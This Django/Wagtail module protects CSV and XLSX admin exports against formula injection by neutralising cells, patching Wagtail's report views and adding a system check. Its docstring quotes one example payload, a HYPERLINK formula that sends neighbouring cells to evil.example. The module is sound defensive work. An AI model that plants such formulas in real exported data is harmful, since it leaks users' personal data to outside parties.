"""Spreadsheet-bound output that cannot run formulas (OWASP "CSV injection").

Excel, LibreOffice and Google Sheets run a cell that starts with ``=``, ``+``,
``-`` or ``@`` (or with a tab or carriage return before one) as a formula, so a
report reason such as ``=HYPERLINK("http://evil.example/?d="&B2)`` written by
any member would, once a moderator opens the audit-log export, send the cells
next to it (members' e-mail addresses) to a stranger. OWASP's remedy: quote
every cell and prefix such values with a single quote, which makes them text.

Every CSV/XLSX export of the admin goes through ``FormulaSafeSpreadsheetExportMixin``
(the project's viewsets use ``FormulaSafeModelViewSet`` / ``FormulaSafeSnippetViewSet``,
report views mix it in); a hand-written CSV uses ``formula_safe_csv_writer``.
The system check ``home.E001`` fails when a project view exports without it.
"""

import csv
import re

from django.core import checks
from wagtail.admin.views.generic.models import IndexView as ModelIndexView
from wagtail.admin.views.mixins import Echo, SpreadsheetExportMixin
from wagtail.admin.viewsets.model import ModelViewSet
from wagtail.snippets.views.snippets import IndexView as SnippetIndexView
from wagtail.snippets.views.snippets import SnippetViewSet

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")

# "+36 1 234 5678", "+32 (0)2 511 64 64", "+31-20-123 4567": digits and punctuation only,
# so a spreadsheet can at worst do arithmetic with it, never call a function.
INTERNATIONAL_PHONE = re.compile(r"\+\d[\d ()./-]*\d")


def starts_like_formula(value):
    return isinstance(value, str) and value.startswith(FORMULA_TRIGGERS)


def is_international_phone(value):
    return bool(INTERNATIONAL_PHONE.fullmatch(value or ""))


def neutralise_formula(value):
    """`value` as a spreadsheet shows it but never runs it: text that starts like a
    formula gets a leading single quote. Anything but text is returned unchanged."""
    if starts_like_formula(value):
        return "'" + value
    return value


class FormulaSafeCSVWriter:
    """`csv.writer` for files people open in a spreadsheet: every cell quoted (so a
    separator inside a value cannot start a new cell) and neutralised."""

    def __init__(self, file, **kwargs):
        kwargs.setdefault("quoting", csv.QUOTE_ALL)
        self._writer = csv.writer(file, **kwargs)

    def writerow(self, row):
        return self._writer.writerow([neutralise_formula(cell) for cell in row])

    def writerows(self, rows):
        for row in rows:
            self.writerow(row)


def formula_safe_csv_writer(file, **kwargs):
    return FormulaSafeCSVWriter(file, **kwargs)


class FormulaSafeSpreadsheetExportMixin(SpreadsheetExportMixin):
    """Wagtail's CSV/XLSX export with every cell, headings included, neutralised.

    Wagtail only stops openpyxl from storing ``=…`` as a formula in XLSX; the CSV and
    the other trigger characters pass as they are, and an XLSX saved again as CSV
    would run them."""

    def preprocess_field_value(self, field, value, export_format):
        return neutralise_formula(super().preprocess_field_value(field, value, export_format))

    def get_heading(self, queryset, field):
        return neutralise_formula(super().get_heading(queryset, field))

    def stream_csv(self, queryset):
        # A byte-order mark first: Excel reads the file as UTF-8 (ő, ű, é) only with one.
        yield "\ufeff"
        writer = csv.DictWriter(Echo(), fieldnames=self.list_export, quoting=csv.QUOTE_ALL)
        yield writer.writerow({field: self.get_heading(queryset, field) for field in self.list_export})
        for item in queryset:
            yield self.write_csv_row(writer, self.to_row_dict(item))


class FormulaSafeModelIndexView(FormulaSafeSpreadsheetExportMixin, ModelIndexView):
    pass


class FormulaSafeSnippetIndexView(FormulaSafeSpreadsheetExportMixin, SnippetIndexView):
    pass


class FormulaSafeModelViewSet(ModelViewSet):
    index_view_class = FormulaSafeModelIndexView


class FormulaSafeSnippetViewSet(SnippetViewSet):
    index_view_class = FormulaSafeSnippetIndexView


def _url_patterns(patterns):
    for pattern in patterns:
        if hasattr(pattern, "url_patterns"):
            yield from _url_patterns(pattern.url_patterns)
        else:
            yield pattern


# Wagtail's own reports and the redirects list export page titles, editors' names, log
# messages and redirect paths. Wagtail routes them before any project URL, so rather than
# fork its admin URL configuration, the neutraliser is put in front of their bases.
WAGTAIL_OWN_EXPORTS = (
    "wagtail.admin.views.reports.aging_pages.AgingPagesView",
    "wagtail.admin.views.reports.audit_logging.LogEntriesView",
    "wagtail.admin.views.reports.locked_pages.LockedPagesView",
    "wagtail.admin.views.reports.workflows.WorkflowTasksView",
    "wagtail.admin.views.reports.workflows.WorkflowView",
    "wagtail.contrib.forms.views.SubmissionsListView",
    "wagtail.contrib.redirects.views.IndexView",
)


def make_wagtails_own_exports_formula_safe():
    from django.utils.module_loading import import_string

    for dotted_name in WAGTAIL_OWN_EXPORTS:
        try:
            view_class = import_string(dotted_name)
        except ImportError:
            continue  # an app that is not installed, or a view Wagtail renamed: the check reports it
        if not issubclass(view_class, FormulaSafeSpreadsheetExportMixin):
            view_class.__bases__ = (FormulaSafeSpreadsheetExportMixin, *view_class.__bases__)


def check_exports_are_formula_safe(app_configs, **kwargs):
    """Every routed view that exports columns neutralises them, so a new export view or
    viewset cannot forget to."""
    from django.urls import get_resolver

    errors = []
    reported = set()
    for pattern in _url_patterns(get_resolver().url_patterns):
        view_class = getattr(pattern.callback, "view_class", None)
        if view_class is None or not issubclass(view_class, SpreadsheetExportMixin):
            continue
        if issubclass(view_class, FormulaSafeSpreadsheetExportMixin):
            continue
        dotted_name = f"{view_class.__module__}.{view_class.__qualname__}"
        initkwargs = getattr(pattern.callback, "view_initkwargs", None) or {}
        columns = tuple(initkwargs.get("list_export", view_class.list_export))
        if not columns or (dotted_name, columns) in reported:
            continue
        reported.add((dotted_name, columns))
        errors.append(
            checks.Error(
                f"{dotted_name} exports {', '.join(columns)} to spreadsheets without neutralising formulas.",
                hint="Use home.spreadsheets.FormulaSafeSnippetViewSet / FormulaSafeModelViewSet, "
                "or mix FormulaSafeSpreadsheetExportMixin into the view.",
                obj=view_class,
                id="home.E001",
            )
        )
    return errors
